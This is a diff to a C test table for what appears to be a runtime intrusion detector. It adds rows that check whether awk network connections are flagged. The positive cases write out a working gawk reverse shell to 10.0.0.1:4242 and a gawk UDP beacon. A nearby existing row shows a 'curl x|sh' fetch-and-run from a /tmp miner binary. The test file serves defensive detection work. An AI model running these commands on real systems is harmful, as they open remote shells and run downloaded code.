@@ -183,6 +183,20 @@ static const struct row rows[] = {
 	  .why = "node child_process one-liner" },
 	{ "script-inline-shell-or-socket", false,
 	  { EXEC("/usr/bin/perl", "perl\t-ne\tprint if /^Version/\tdebian/control") }, .why = "perl text filter" },
+	{ "awk-network-connection", true,
+	  { EXEC("/usr/bin/gawk", "awk\tBEGIN {s=\"/inet/tcp/0/10.0.0.1/4242\";while(42){do{printf \"> \" |& s;"
+				  "s |& getline c;if(c){while((c |& getline) > 0)print $0 |& s;close(c)}}"
+				  "while(c != \"exit\")close(s)}}") },
+	  .why = "gawk reverse shell" },
+	{ "awk-network-connection", true,
+	  { EXEC("/usr/bin/gawk", "gawk\t-v\tH=10.0.0.1\tBEGIN { print \"id\" |& \"/inet4/udp/0/\" H \"/53\" }") },
+	  .why = "gawk over UDP, IPv4 only" },
+	{ "awk-network-connection", false,
+	  { EXEC("/usr/bin/gawk", "awk\t-F:\t$3 >= 1000 { print $1 }\t/etc/passwd") },
+	  .why = "awk listing users" },
+	{ "awk-network-connection", false,
+	  { EXEC("/usr/bin/gawk", "awk\t/tcp/ && /LISTEN/ { n++ } END { print n }\t/proc/net/tcp") },
+	  .why = "awk counting listening sockets" },
 
 	{ "exec-from-temp-dir", true,
 	  { EXEC("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"), PARENT("/usr/bin/dash", "sh\t-c\tcurl x|sh") },
